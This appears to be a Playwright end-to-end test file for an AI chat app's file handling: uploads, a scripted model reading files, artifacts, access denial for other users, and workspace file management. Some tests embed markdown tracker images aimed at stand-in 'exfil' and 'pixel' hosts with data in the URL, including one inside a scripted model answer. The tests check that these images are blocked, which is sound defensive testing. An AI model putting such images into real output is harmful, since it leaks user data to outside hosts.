import fs from "node:fs/promises";
import { expect, test, type Page } from "./test";
import { createUser, signIn, signInAsAdmin, signInPage, type CreatedUser } from "./helpers/auth";
import { mock, scriptMarker } from "./helpers/chat";
import { createTrustedAgent, DOT_PNG, dropFiles, requestsTo, throttleUploads } from "./helpers/files";
import { uniqueName } from "./helpers/org";
import { clickUntilVisible, saveScreenshot } from "./helpers/pages";

/**
 * Files in the browser: drag-and-drop upload with progress, the agent reads the file
 * (scripted read_file) while the chat never shows an attachment block, an artifact opened in
 * the file panel and downloaded, another user refused (404), the panel's own upload (asking
 * before a replace) and delete in the personal workspace, a removed chip's file deleted, and
 * external markdown images never fetched.
 */

const suffix = uniqueName("f").slice(2).toLowerCase();
const MARKER = `UPLOADED-CONTENT-${suffix}`;
const ARTIFACT_BODY = `ARTIFACT-BODY-${suffix}`;
const shot = (name: string) => `${process.env.E2E_SCREENSHOT_DIR || "test-results"}/files-${name}.png`;

let agent: { id: string; name: string };
let stranger: CreatedUser;

test.beforeAll(async ({ baseURL }) => {
  const admin = await signInAsAdmin(baseURL!);
  agent = await createTrustedAgent(admin, `Files ${suffix}`);
  stranger = await createUser(admin, { role: "user" });
  await admin.dispose();
});

test.afterAll(async ({ baseURL }) => {
  const admin = await signInAsAdmin(baseURL!);
  if (agent) expect([200, 404]).toContain((await admin.delete(`/api/agents/${agent.id}`)).status());
  await admin.dispose();
});

async function pickAgent(page: Page, name: string) {
  const option = page.getByTestId("agent-option").filter({ hasText: name });
  await clickUntilVisible(page.getByTestId("agent-picker"), option);
  await option.click();
  await expect(page.getByTestId("agent-picker")).toContainText(name);
}

/** 1.5 MB of text whose first line is the marker the model must receive. */
function bigText(): string {
  const line = "lorem ipsum dolor sit amet ".repeat(3).trim();
  return `${MARKER}\n${Array.from({ length: 20_000 }, (_, i) => `${i} ${line}`).join("\n")}\n`;
}

const ELF_BYTES = [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...Array.from({ length: 120 }, () => 0)];

test("drop a file, the agent reads it, present an artifact, open and download it; others get 404", async ({
  page,
  baseURL,
}) => {
  test.setTimeout(150_000);
  await signInPage(page);
  await pickAgent(page, agent.name);
  const question = `What does my file say? ${scriptMarker(`files-${suffix}`)}`;
  await page.getByTestId("composer-input").fill(question);

  // --- Upload by drag-and-drop: progress while sending is blocked, a refused type explained.
  const release = await throttleUploads(page, 400 * 1024);
  const uploaded = page.waitForResponse(
    (r) => r.url().includes("/uploads") && r.request().method() === "POST" && r.status() === 201,
  );
  await dropFiles(page, page.getByTestId("composer"), [
    { name: "notes.txt", type: "text/plain", text: bigText() },
    { name: "tool.bin", type: "application/octet-stream", bytes: ELF_BYTES },
  ]);
  const chips = page.getByTestId("attachment-chip");
  await expect(chips).toHaveCount(2);
  const notes = chips.filter({ hasText: "notes.txt" });
  await expect(notes.getByTestId("attachment-progress")).toBeVisible();
  await expect(page.getByTestId("send-button")).toBeDisabled();
  const refused = chips.filter({ hasText: "tool.bin" });
  await expect(refused).toHaveAttribute("data-status", "failed");
  await expect(refused.getByTestId("attachment-error")).toHaveText("This file type is not accepted");
  await saveScreenshot(page, { path: shot("composer-uploading") });
  const upload = (await (await uploaded).json()) as { name: string; path: string; size: number; mediaType: string };
  await release();
  expect(upload).toMatchObject({ name: "notes.txt", mediaType: "text/plain" });
  expect(upload.path).toMatch(/^\/home\/gem\/user-data\/projects\/[\w-]+\/uploads\/[^/]+$/);
  await expect(notes).toHaveAttribute("data-status", "done");
  await expect(notes.getByTestId("attachment-detail")).toHaveText(/1\.\d\s?MB/);
  await saveScreenshot(page.getByTestId("composer"), { path: shot("composer-chips") });
  await refused.getByTestId("attachment-remove").click();
  await expect(chips).toHaveCount(1);
  await expect(page.getByTestId("send-button")).toBeEnabled();

  // --- The scripted model reads the upload with read_file; the chat shows only the typed text.
  const workdir = upload.path.replace(/\/uploads\/[^/]+$/, "");
  const threadId = workdir.split("/").pop()!;
  await mock.script(`files-${suffix}`, [
    { toolCalls: [{ name: "read_file", args: { file_path: upload.path } }] },
    { text: "Your file starts with the marker. READ-DONE" },
  ]);
  await page.getByTestId("send-button").click();
  await expect(page).toHaveURL(new RegExp(`/chat/${threadId}$`));
  await expect(chips).toHaveCount(0);
  await expect(page.getByTestId("message-assistant").last()).toContainText("READ-DONE");
  const requests = await mock.requests(`files-${suffix}`);
  expect(requests).toHaveLength(2);
  type Sent = { role: string; content: unknown };
  const [first, second] = requests.map((r) => (r.body as { messages: Sent[] }).messages);
  // The model's copy of the user message lists the attachment; the content arrives only by read_file.
  expect(JSON.stringify(first.filter((m) => m.role === "user").at(-1))).toContain(upload.path);
  expect(JSON.stringify(first)).not.toContain(MARKER);
  expect(JSON.stringify(second.filter((m) => m.role === "tool"))).toContain(MARKER);
  const userMessage = page.getByTestId("message-user");
  await expect(userMessage).toHaveCount(1);
  await expect(userMessage.getByTestId("message-user-text")).toHaveText(question);
  // The file the message carried shows under it, as sent and after a reload.
  const carried = userMessage.getByTestId("message-attachment");
  await expect(carried).toHaveCount(1);
  await expect(carried).toHaveAttribute("data-path", upload.path);
  await expect(carried).toContainText("notes.txt");
  await page.reload();
  await expect(page.getByTestId("message-assistant").last()).toContainText("READ-DONE");
  await expect(page.getByTestId("message-user-text")).toHaveText(question);
  await expect(page.getByTestId("message-user").getByTestId("message-attachment-name")).toHaveText("notes.txt");

  // --- The workdir in the file panel: the upload under its original name.
  await clickUntilVisible(page.getByTestId("files-toggle"), page.getByTestId("file-panel"));
  const panel = page.getByTestId("file-panel");
  await expect(panel.getByTestId("file-tab-workdir")).toHaveAttribute("aria-selected", "true");
  await panel.locator(`[data-testid="file-entry"][data-path="${workdir}/uploads"]`).click();
  await expect(panel.locator(`[data-testid="file-entry"][data-path="${upload.path}"]`)).toContainText("notes.txt");

  // --- write_file + present_artifacts: the open panel shows the new file while the answer
  // still streams, then a card opens the preview and downloads the file.
  const report = `${workdir}/outputs/report.md`;
  const content = `# Quarterly report\n\n${ARTIFACT_BODY}\n\n- first point\n- second point\n`;
  // The conversation's first marker picks the script: the same key, scripted anew.
  await mock.script(`files-${suffix}`, [
    { toolCalls: [{ name: "write_file", args: { file_path: report, content } }] },
    { toolCalls: [{ name: "present_artifacts", args: { filepaths: [report] } }] },
    { text: `${"The report is ready. ".repeat(16)}ARTIFACT-DONE`, chunkSize: 4, delayMs: 80 },
  ]);
  const outputs = panel.locator(`[data-testid="file-entry"][data-path="${workdir}/outputs"]`);
  await expect(outputs).toHaveCount(0);
  await page.getByTestId("composer-input").fill("Now write the report");
  await page.getByTestId("send-button").click();
  const answer = page.getByTestId("message-assistant").last();
  await expect(outputs).toBeVisible();
  await expect(answer).toContainText("The report is ready.");
  expect(await answer.innerText()).not.toContain("ARTIFACT-DONE");
  await expect(answer).toContainText("ARTIFACT-DONE", { timeout: 30_000 });
  await outputs.click();
  await expect(panel.locator(`[data-testid="file-entry"][data-path="${report}"]`)).toContainText("report.md");
  await saveScreenshot(panel, { path: shot("panel-tree") });
  const card = answer.getByTestId("artifact-card");
  await expect(card).toHaveCount(1);
  await expect(card).toContainText("report.md");
  await expect(card).toHaveAttribute("data-path", report);
  await saveScreenshot(card, { path: shot("artifact-card") });

  await card.getByTestId("artifact-open").click();
  const preview = panel.getByTestId("file-preview");
  await expect(preview).toBeVisible();
  await expect(preview).toHaveAttribute("data-path", report);
  await expect(preview.locator("h1")).toHaveText("Quarterly report");
  await expect(preview).toContainText(ARTIFACT_BODY);
  await saveScreenshot(page, { path: shot("panel-preview") });
  await page.emulateMedia({ colorScheme: "dark" });
  await saveScreenshot(page, { path: shot("panel-preview-dark") });
  await page.emulateMedia({ colorScheme: "light" });

  const [download] = await Promise.all([page.waitForEvent("download"), card.getByTestId("artifact-download").click()]);
  expect(download.suggestedFilename()).toBe("report.md");
  expect(await fs.readFile((await download.path())!, "utf8")).toBe(content);
  const [fromPanel] = await Promise.all([page.waitForEvent("download"), preview.getByTestId("file-download").click()]);
  expect(await fs.readFile((await fromPanel.path())!, "utf8")).toBe(content);

  // The artifact card survives a reload (it is part of the stored message).
  await page.reload();
  await expect(page.getByTestId("artifact-card")).toHaveAttribute("data-path", report);

  // --- Someone else: the same download URL (and the upload) answer 404.
  const other = await signIn(baseURL!, stranger.username, stranger.password);
  const href = await page.getByTestId("artifact-download").getAttribute("href");
  expect(href).toBe(`/api/threads/${threadId}/files?path=${encodeURIComponent(report)}&download=1`);
  expect((await other.get(href!)).status()).toBe(404);
  expect((await other.get(`/api/threads/${threadId}/files?path=${encodeURIComponent(upload.path)}`)).status()).toBe(
    404,
  );
  expect((await other.get(`/api/workspace/files?path=${encodeURIComponent(report)}&download=1`)).status()).toBe(404);
  await other.dispose();
});

test("the file panel uploads into the personal workspace, asks before replacing, previews safely, deletes", async ({
  page,
}) => {
  await signInPage(page);
  await clickUntilVisible(page.getByTestId("files-toggle"), page.getByTestId("file-panel"));
  const panel = page.getByTestId("file-panel");
  await panel.getByTestId("file-tab-workspace").click();
  await expect(panel.getByTestId("file-tab-workspace")).toHaveAttribute("aria-selected", "true");
  await expect(panel.getByTestId("file-tree").or(panel.getByTestId("file-tree-empty"))).toBeVisible();

  const name = `notes-${suffix}.md`;
  const path = `/home/gem/user-data/${name}`;
  const upload = async (body: string) =>
    panel
      .getByTestId("file-upload-input")
      .setInputFiles({ name, mimeType: "text/markdown", buffer: Buffer.from(body) });
  const stored = async () => (await page.request.get(`/api/workspace/files?path=${encodeURIComponent(path)}`)).text();
  const puts: string[] = [];
  page.on("request", (request) => {
    if (request.method() === "PUT" && request.url().includes("/api/workspace/files")) puts.push(request.url());
  });

  await upload(`FIRST-${suffix}\n`);
  const entry = panel.locator(`[data-testid="file-entry"][data-path="${path}"]`);
  await expect(entry).toBeVisible();
  await expect(entry).toHaveAttribute("data-kind", "file");
  expect(puts).toHaveLength(1);

  // --- The same name again: nothing is sent until "Replace"; "Cancel" keeps the old content.
  const host = `exfil-${suffix}.example`;
  const outside = requestsTo(page.context(), host);
  const second = [
    "## Personal notes",
    `KEPT-${suffix}`,
    `![tracker](https://${host}/pixel.png?d=KEPT-${suffix})`,
    `![dot](${DOT_PNG})`,
    "```ts\nconst answer = 42;\n```",
  ].join("\n\n");
  // The panel's confirm dialog (drawn in a portal over the page, so found from the page).
  const dialog = page.getByTestId("confirm-dialog");
  await upload(second);
  await expect(dialog).toBeVisible();
  await expect(dialog).toContainText(`Replace “${name}”?`);
  await expect(dialog.getByTestId("confirm-accept")).toHaveText("Replace");
  await saveScreenshot(page, { path: shot("replace-confirm") });
  await dialog.getByTestId("confirm-cancel").click();
  await expect(dialog).toBeHidden();
  expect(puts).toHaveLength(1);
  expect(await stored()).toBe(`FIRST-${suffix}\n`);

  await upload(second);
  await expect(dialog).toBeVisible();
  const replaced = page.waitForResponse(
    (r) => r.url().includes("/api/workspace/files") && r.request().method() === "PUT",
  );
  await dialog.getByTestId("confirm-accept").click();
  expect((await replaced).status()).toBe(200);
  expect(puts).toHaveLength(2);
  expect(await stored()).toBe(second);

  // --- The markdown preview: the inline image shows, the external one is only named and never fetched.
  await entry.click();
  const preview = panel.getByTestId("file-preview");
  await expect(preview.locator("h2")).toHaveText("Personal notes");
  await expect(preview.getByTestId("code-block")).toContainText("const answer = 42;");
  const dot = preview.locator('img[alt="dot"]');
  await expect.poll(() => dot.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
  const blocked = preview.getByTestId("markdown-blocked-image");
  await expect(blocked).toHaveText("tracker");
  await expect(blocked).toHaveAttribute("href", `https://${host}/pixel.png?d=KEPT-${suffix}`);
  await expect(blocked).toHaveAttribute("target", "_blank");
  await expect(blocked).toHaveAttribute("rel", "noopener noreferrer");
  await expect(blocked).toHaveAttribute("title", /not loaded automatically/);
  await expect(preview.locator(`img[src*="${host}"]`)).toHaveCount(0);
  await saveScreenshot(preview, { path: shot("blocked-image") });
  expect(outside).toEqual([]);
  // Only a click opens it, in a new tab (answered here: the host does not exist).
  await page
    .context()
    .route(`https://${host}/**`, (route) => route.fulfill({ contentType: "text/plain", body: "opened" }));
  const [tab] = await Promise.all([page.waitForEvent("popup"), blocked.click()]);
  await expect.poll(() => tab.url()).toContain(host);
  expect(outside.length).toBeGreaterThan(0);
  await tab.close();

  await preview.getByTestId("file-delete").click();
  await expect(dialog).toBeVisible();
  await expect(dialog).toContainText(name);
  await dialog.getByTestId("confirm-accept").click();
  await expect(preview).toBeHidden();
  await expect(entry).toHaveCount(0);
});

test("an image pasted into a new chat previews in the panel; removing its chip deletes it before the first message", async ({
  page,
}) => {
  await signInPage(page);
  const uploaded = page.waitForResponse((r) => r.url().includes("/uploads") && r.request().method() === "POST");
  // A screenshot-like image on the clipboard, pasted into the message box.
  await page.getByTestId("composer-input").evaluate(async (input) => {
    const canvas = document.createElement("canvas");
    canvas.width = 160;
    canvas.height = 90;
    const ctx = canvas.getContext("2d")!;
    ctx.fillStyle = "#4f46e5";
    ctx.fillRect(0, 0, 160, 90);
    ctx.fillStyle = "#fbbf24";
    ctx.fillRect(20, 20, 50, 50);
    const blob = await new Promise<Blob>((resolve) => canvas.toBlob((b) => resolve(b!), "image/png"));
    const clipboardData = new DataTransfer();
    clipboardData.items.add(new File([blob], "image.png", { type: "image/png" }));
    input.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
  });
  const upload = (await (await uploaded).json()) as { name: string; path: string; mediaType: string };
  // A screenshot's generic name becomes the moment it was pasted.
  expect(upload).toMatchObject({ mediaType: "image/png" });
  expect(upload.name).toMatch(/^pasted-\d{8}-\d{6}\.png$/);
  const chip = page.getByTestId("attachment-chip");
  await expect(chip).toHaveAttribute("data-status", "done");
  await expect(page.getByTestId("composer-input")).toHaveValue("");

  // The new chat's workdir exists already: the panel lists the upload and shows the image.
  await clickUntilVisible(page.getByTestId("files-toggle"), page.getByTestId("file-panel"));
  const panel = page.getByTestId("file-panel");
  const uploadsDir = upload.path.replace(/\/[^/]+$/, "");
  await panel.locator(`[data-testid="file-entry"][data-path="${uploadsDir}"]`).click();
  const entry = panel.locator(`[data-testid="file-entry"][data-path="${upload.path}"]`);
  await expect(entry).toContainText(upload.name);
  await entry.click();
  const image = panel.getByTestId("file-preview-image");
  await expect(image).toBeVisible();
  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(160);
  await saveScreenshot(page, { path: shot("panel-image") });

  // Removing the chip deletes the upload: while the server cannot be reached it stays, with
  // the reason; then it is gone from the chat's files and the preview closes.
  const threadId = upload.path.split("/").at(-3)!;
  const fileUrl = `/api/threads/${threadId}/files?path=${encodeURIComponent(upload.path)}`;
  await page.context().setOffline(true);
  await chip.getByTestId("attachment-remove").click();
  await expect(chip.getByTestId("attachment-remove-error")).toHaveText("Not removed: Network error — try again");
  await expect(chip).toHaveAttribute("data-status", "done");
  await saveScreenshot(page.getByTestId("composer"), { path: shot("chip-remove-failed") });
  await page.context().setOffline(false);
  expect((await page.request.get(fileUrl)).status()).toBe(200);
  const deleted = page.waitForResponse((r) => r.url().endsWith(fileUrl) && r.request().method() === "DELETE");
  await chip.getByTestId("attachment-remove").click();
  expect((await deleted).status()).toBe(204);
  await expect(chip).toHaveCount(0);
  await expect(image).toBeHidden();
  await expect(panel.getByTestId("file-tree").or(panel.getByTestId("file-tree-empty"))).toBeVisible();
  await expect(entry).toHaveCount(0);
  expect((await page.request.get(fileUrl)).status()).toBe(404);

  // The next run does not list it to the model; an external image in the answer is not fetched.
  const key = `files-removed-${suffix}`;
  const host = `pixel-${suffix}.example`;
  const outside = requestsTo(page.context(), host);
  await mock.script(key, [{ text: `Nothing attached. REMOVED-DONE ![pixel](https://${host}/p.png?d=${suffix})` }]);
  await page.getByTestId("composer-input").fill(`Anything attached? ${scriptMarker(key)}`);
  await page.getByTestId("send-button").click();
  await expect(page).toHaveURL(new RegExp(`/chat/${threadId}$`));
  const answer = page.getByTestId("message-assistant").last();
  await expect(answer).toContainText("REMOVED-DONE");
  await expect(answer.getByTestId("markdown-blocked-image")).toHaveText("pixel");
  await saveScreenshot(answer, { path: shot("answer-blocked-image") });
  const requests = await mock.requests(key);
  expect(requests).toHaveLength(1);
  const sent = JSON.stringify((requests[0].body as { messages: unknown[] }).messages);
  expect(sent).toContain("Anything attached?");
  expect(sent).not.toContain(upload.path);
  expect(sent).not.toContain("<attachments>");
  expect(outside).toEqual([]);

  // On a phone the panel is a drawer over the chat, no wider than the screen.
  await page.setViewportSize({ width: 390, height: 844 });
  await expect(panel).toBeVisible();
  const box = await panel.boundingBox();
  expect(box!.x).toBeGreaterThanOrEqual(0);
  expect(box!.x + box!.width).toBeLessThanOrEqual(390);
  await saveScreenshot(page, { path: shot("panel-narrow") });
  await panel.getByTestId("files-close").click();
  await expect(panel).toBeHidden();
});

test("the demo model reads an attached file when asked about it, and no attachment block reaches the page", async ({
  page,
}) => {
  await signInPage(page);
  const name = `harbour-${suffix}.txt`;
  await dropFiles(page, page.getByTestId("composer"), [
    { name, type: "text/plain", text: "Berth 4 is closed for repairs\nPilot boards at 06:00\n" },
  ]);
  await expect(page.getByTestId("attachment-chip")).toHaveAttribute("data-status", "done");
  // No script marker: the offline demo model answers.
  await page.getByTestId("composer-input").fill("What does the attached file say?");
  await page.getByTestId("send-button").click();

  const answer = page.getByTestId("message-assistant").last();
  await expect(answer).toContainText(`From ${name}`, { timeout: 60_000 });
  await expect(answer).toContainText("Berth 4 is closed for repairs");
  await expect(page.getByTestId("send-button")).toBeVisible({ timeout: 60_000 });
  await expect(page.getByTestId("message-user-text")).toHaveText("What does the attached file say?");
  await expect(page.getByTestId("message-user").getByTestId("message-attachment-name")).toHaveText(name);
  const visible = await page.locator("body").innerText();
  expect(visible).not.toContain("<attachments>");
  expect(visible).not.toContain("Files the user uploaded");
  await saveScreenshot(page, { path: shot("demo-reads-attachment"), fullPage: true });
});

test("the files a message carried show under it: names, sizes, an image's thumbnail that opens in the panel", async ({
  page,
}) => {
  await signInPage(page);
  // Paste a 160x90 image (the browser lists it only as a clipboard item), then drop a text file.
  await page.getByTestId("composer-input").evaluate(async (input) => {
    const canvas = Object.assign(document.createElement("canvas"), { width: 160, height: 90 });
    const ctx = canvas.getContext("2d")!;
    ctx.fillStyle = "#0ea5e9";
    ctx.fillRect(0, 0, 160, 90);
    const blob = await new Promise<Blob>((resolve) => canvas.toBlob((b) => resolve(b!), "image/png"));
    const clipboardData = new DataTransfer();
    clipboardData.items.add(new File([blob], "image.png", { type: "image/png" }));
    input.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
  });
  await dropFiles(page, page.getByTestId("composer"), [
    { name: `minutes-${suffix}.md`, type: "text/markdown", text: "# Minutes\n\nAll agreed.\n" },
  ]);
  const chips = page.getByTestId("attachment-chip");
  await expect(chips).toHaveCount(2);
  await expect(chips.nth(0)).toHaveAttribute("data-status", "done");
  await expect(chips.nth(1)).toHaveAttribute("data-status", "done");

  const key = `carried-${suffix}`;
  await mock.script(key, [{ text: "Both received. CARRIED-DONE" }]);
  await page.getByTestId("composer-input").fill(`Here are the files ${scriptMarker(key)}`);
  await page.getByTestId("send-button").click();
  await expect(page.getByTestId("message-assistant").last()).toContainText("CARRIED-DONE");

  const check = async () => {
    const carried = page.getByTestId("message-user").getByTestId("message-attachment");
    await expect(carried).toHaveCount(2);
    await expect(carried.nth(0)).toContainText(/^pasted-\d{8}-\d{6}\.png/);
    await expect(carried.nth(1)).toContainText(`minutes-${suffix}.md`);
    await expect(carried.nth(1)).toContainText(/\d+\s?B/);
    const thumbnail = carried.nth(0).getByTestId("message-attachment-thumbnail");
    await expect.poll(() => thumbnail.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(160);
    return carried;
  };
  await check();
  // After a reload the message still carries them; a click opens the image in the file panel.
  await page.reload();
  const carried = await check();
  await carried.nth(0).click();
  const preview = page.getByTestId("file-panel").getByTestId("file-preview-image");
  await expect(preview).toBeVisible();
  await expect.poll(() => preview.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(160);
  await saveScreenshot(page, { path: shot("message-attachments") });

  await page.setViewportSize({ width: 390, height: 844 });
  await page.getByTestId("file-panel").getByTestId("files-close").click();
  await expect(page.getByTestId("message-user").getByTestId("message-attachment")).toHaveCount(2);
  const box = await page.getByTestId("message-attachments").boundingBox();
  expect(box!.x + box!.width).toBeLessThanOrEqual(390);
  await saveScreenshot(page, { path: shot("message-attachments-390") });
});
